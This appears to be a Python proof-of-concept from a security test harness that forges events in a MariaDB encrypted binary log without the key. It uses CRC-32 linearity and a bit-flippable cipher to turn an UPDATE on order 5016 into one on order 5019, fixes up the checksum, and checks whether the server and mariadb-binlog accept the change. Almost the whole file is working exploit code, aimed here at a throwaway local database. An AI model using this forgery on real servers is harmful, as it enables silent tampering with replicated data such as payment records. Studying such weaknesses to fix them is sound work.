"""Changes the end of an event in an encrypted binary log, without a key, so that the server takes it for its own.

The checksum of an event is a CRC-32, which is linear: what a flipped bit of the plaintext does to it can be computed
without knowing either. It stands at the event's end, so a cipher under which bits of the tail can be flipped alone lets
both be changed together.
"""

import subprocess
import zlib

from aes import xor
from binary_log import CHECKSUM, events, replace
from client import StatementFailed
from host import require
from server import Failure

OLD, NEW = "5016", "5019"
# As many statements as there are lengths of tails.
STATEMENTS = [f"UPDATE shop.orders SET paid = 1 WHERE {' ' * spaces}id = {OLD}" for spaces in range(16)]


def _checksum_changes_by(change):
    """What XORing this into a message does to its CRC-32."""
    return zlib.crc32(change) ^ zlib.crc32(bytes(len(change)))


def forge(event):
    """The event with other digits at the end of its statement, and the checksum that goes with them. The checksum is that
    of the whole event: of the four bytes, too, that are not encrypted."""
    change = bytes(4 + len(event.cipher) - CHECKSUM - len(OLD)) + xor(OLD.encode(), NEW.encode())
    event.cipher = xor(event.cipher, change[4:] + _checksum_changes_by(change).to_bytes(CHECKSUM, "little"))
    return event


def attack(site, store):
    """What the server and its own program read in the changed binary log; None if they refuse it."""
    host = site.bare(store)
    host.start()
    host.sql("CREATE DATABASE shop", "CREATE TABLE shop.orders (id INT PRIMARY KEY, paid INT)",
             f"INSERT INTO shop.orders VALUES ({OLD}, 0), ({NEW}, 0)", "SET SESSION binlog_format = STATEMENT", *STATEMENTS)
    log = host.data / "binlog.000001"
    updates = {int(row[1]) for row in host.sql(f"SHOW BINLOG EVENTS IN '{log.name}'") if row[5].endswith(f"id = {OLD}")}
    if len(updates) != len(STATEMENTS):
        raise Failure(f"the binary log has {len(updates)} of the statements")
    whole = log.read_bytes()
    taken = []
    for event in events(log):
        if event.offset in updates:
            replace(log, forge(event))
            if _read(host, log.name):
                taken.append(len(event.cipher) % 16)
            log.write_bytes(whole)
    site.measured(f"{len(taken)} of {len(updates)} changed events were taken" +
                  (f", with tails of {', '.join(map(str, sorted(taken)))} bytes" if taken else ""))
    return f"`id = {OLD}` was made `id = {NEW}`" if taken else None


def _read(host, name):
    """Whether the server, and its program by way of the server, take the changed event."""
    try:
        shown = host.sql(f"SHOW BINLOG EVENTS IN '{name}'")
    except StatementFailed as failure:
        require(str(failure), "Wrong offset or I/O error|checksum|corrupt")
        shown = None
    done = subprocess.run(["mariadb-binlog", "--no-defaults", "--read-from-remote-server", "--verify-binlog-checksum",
                           f"--socket={host.server.socket}", "--user=root", name], capture_output=True, text=True, timeout=60,
                          check=False)
    if bool(shown) == bool(done.returncode):
        raise Failure(f"SHOW BINLOG EVENTS and mariadb-binlog disagree: {(done.stdout + done.stderr)[-1000:]}")
    if not shown:
        return False
    if not any(row[5].endswith(f"id = {NEW}") for row in shown) or f"id = {NEW}" not in done.stdout:
        raise Failure("the changed event was taken, but says something else")
    return True
